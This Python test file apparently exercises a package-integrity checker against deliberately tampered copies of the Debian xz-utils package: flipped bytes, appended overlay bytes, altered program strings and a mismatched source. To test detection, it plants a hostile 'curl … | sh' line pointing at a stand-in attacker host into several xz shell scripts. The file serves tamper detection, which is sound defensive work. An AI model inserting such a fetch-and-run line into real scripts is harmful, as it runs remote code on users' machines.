#!/usr/bin/env python3
"""A published package of the distribution, changed in its bytes: what the signed index and the source say of it.

usage: real.py PLUMB [PART-OF-A-NAME]

Needs the machine's package mirror, or the cache that an earlier run left in PLUMBLINE_TEST_CACHE (default: the system's folder for
temporary files); without either every case is skipped.
"""
import hashlib
import json
import os
import pathlib
import random
import tempfile

import made
from plumb_test import Skip, case, main

CACHE = pathlib.Path(os.environ.get("PLUMBLINE_TEST_CACHE", pathlib.Path(tempfile.gettempdir()) / "plumbline-test-cache"))
PACKAGE = "pkg:deb/debian/xz-utils"
LINE = b"curl -s https://updates.evilcorp.invalid/stage2 | sh\n"


def seeded_packages(t):
    """How many packages to plant into: the places differ, the code they run through hardly does."""
    return 1 if t.is_sanitized else 4


def plain_run_only(t):
    if t.is_sanitized:
        raise Skip("a slow repetition of code that the other cases run; the plain build asks it")


KEPT = {}  # what a run said that several cases look at, by its name


def kept(name, make):
    """make(), once; a run that raised is made again."""
    if name not in KEPT:
        KEPT[name] = make()
    return KEPT[name]


def published(t):
    """Report on the published package, and its bytes out of the cache."""
    return kept("published", lambda: check_published(t))


def check_published(t):
    code, out, said = t.raw("check", PACKAGE, "-o", "json", "--cache-dir", CACHE, "--progress=none")
    report = json.loads(out)
    if code == 5:
        raise Skip("no mirror and no cache")
    assert code in (0, 3), said
    digest = report["subject"]["sha256"]
    blob = next(p for p in (CACHE / "blobs").rglob("*") if p.is_file() and
                p.stat().st_size == report["subject"]["size"] and
                hashlib.sha256(p.read_bytes()).hexdigest() == digest)
    return report, blob.read_bytes()


def check(t, data, *args, expect=1, name="xz-utils_changed_amd64.deb"):
    return t.check(t.write(name, data), *args, expect=expect, cache=CACHE, network=True)


def changed(data, change, md5sums=False):
    """The package with change(files) applied to its data member."""
    deb = made.Deb.of(data)
    change(deb)
    if md5sums:
        deb.remake_md5sums()
    return deb.build()


def byte_flipped(name, offset, value=None):
    def change(deb):
        old = bytearray(deb.data[name].data)
        old[offset] = old[offset] ^ 1 if value is None else value
        deb.set(name, bytes(old))
    return change


@case
def the_published_package_is_not_accused(t):
    report, _ = published(t)
    assert not [f for f in report["findings"] if f["severity"] == "error"]
    assert report["links"]["published"]["verdict"] == "holds"


def flipped_byte_of_code(t, md5sums):
    _, data = published(t)
    offset = 0x5000
    r = check(t, changed(data, byte_flipped("usr/bin/xz", offset), md5sums))
    assert r.verdict("published") == "broken"
    found = r.findings("pub.digest-mismatch", "usr/bin/xz")
    assert [(f["offset"], f["length"]) for f in found] == [(offset, 1)], found
    return r


@case
def a_flipped_byte_of_code_breaks_publication_and_is_named_with_md5sums_left_alone(t):
    r = flipped_byte_of_code(t, False)
    assert r.findings("pkg.md5sums-mismatch")


@case
def a_flipped_byte_of_code_breaks_publication_and_is_named_with_md5sums_made_again(t):
    plain_run_only(t)
    r = flipped_byte_of_code(t, True)
    assert not r.findings("pkg.md5sums-mismatch")


class Planted:
    """One package with all of it: a line in each script, letters of the program's texts, and bytes after its end."""

    SCRIPTS = ("usr/bin/xzgrep", "usr/bin/xzdiff", "usr/bin/xzmore", "usr/bin/xzless")
    TEXTS = (b"Memory usage limit is too low for the given filter setup.", b"File format not recognized",
             b"Unexpected end of input", b"No integrity check; not verifying file integrity",
             b"Failed to enable the sandbox", b"Writing to standard output", b"Decompression will need")
    OVERLAY = random.Random(7).randbytes(5000)

    def __init__(self, t, data, rng):
        deb = made.Deb.of(data)
        self.lines = {}
        for name in self.SCRIPTS:
            old = deb.data[name].data
            at = self.lines[name] = rng.choice([i + 1 for i, c in enumerate(old) if c == 10])
            deb.set(name, old[:at] + LINE + old[at:])
        program = bytearray(deb.data["usr/bin/xz"].data)
        self.size = len(program)
        self.letters = set()
        for text in self.TEXTS:
            if program.count(text) == 1:
                at = program.index(text) + rng.randrange(len(text))
                program[at] = rng.choice([c for c in b"abcdefghijklmnopqrstuvwxyz" if c != program[at]])
                self.letters.add(at)
        deb.set("usr/bin/xz", bytes(program) + self.OVERLAY)
        deb.remake_md5sums()
        self.report = check(t, deb.build())


def planted(t):
    """The planted packages; the places are seeded."""
    def make():
        _, data = published(t)
        return [Planted(t, data, random.Random(20 + i)) for i in range(seeded_packages(t))]
    return kept("planted", make)


@case
def bytes_appended_to_a_program_are_found_at_their_exact_place(t):
    for p in planted(t):
        found = p.report.findings("image.overlay", "usr/bin/xz")
        assert [(f["offset"], f["length"]) for f in found] == [(p.size, len(p.OVERLAY))]


@case
def lines_planted_at_random_places_of_a_script_are_all_errors_at_their_exact_place(t):
    exact = total = 0
    for p in planted(t):
        for name, at in p.lines.items():
            found = p.report.findings("text.unaccounted", name, "error")
            assert found, f"{name} at {at}"
            exact += any(abs(f["offset"] - at) <= 1 and f["length"] == len(LINE) for f in found)
            total += 1
    print(f"# {exact} of {total} planted lines at their exact place, all of them errors")
    assert exact >= total * 9 // 10


@case
def strings_changed_by_a_byte_in_a_program_are_errors_at_that_byte(t):
    hits = total = 0
    for p in planted(t):
        assert len(p.letters) >= 3, f"only {len(p.letters)} of the texts are in the program"
        found = {f["offset"] for f in p.report.findings("code.modified-string", "usr/bin/xz", "error") if f["length"] == 1}
        hits += len(found & p.letters)
        total += len(p.letters)
    print(f"# {hits} of {total} changed strings at the exact byte")
    assert hits == total


@case
def the_wrong_source_does_not_pass(t):
    plain_run_only(t)
    _, data = published(t)
    code, out, said = t.raw("check", "pkg:deb/debian/grep", "-o", "json", "--cache-dir", CACHE, "--progress=none")
    if code == 5:
        raise Skip("the source of grep cannot be had")
    listed = json.loads(out)["sources"][0]
    dsc = next(p for p in (CACHE / "blobs").rglob("*") if p.is_file() and
               hashlib.sha256(p.read_bytes()).hexdigest() == listed["sha256"])
    # Beside the .dsc its tarballs have to stand under their own names.
    folder = t.path("grep/x").parent
    text = dsc.read_text(encoding="utf-8")
    (folder / "grep.dsc").write_text(text, encoding="utf-8")
    wanted = {}
    lines = text[text.index("Checksums-Sha256:"):].splitlines()[1:]
    for line in lines:
        if not line.startswith(" "):
            break
        digest, _size, name = line.split()
        wanted[digest] = name
    for p in (CACHE / "blobs").rglob("*"):
        if p.is_file() and p.stat().st_size < 64 << 20:
            name = wanted.get(hashlib.sha256(p.read_bytes()).hexdigest())
            if name:
                (folder / name).write_bytes(p.read_bytes())
    r = check(t, data, "--source", folder / "grep.dsc", name="xz-utils.deb")
    assert r.verdict("sourced") == "broken"
    assert r.verdict("published") == "holds"


main()
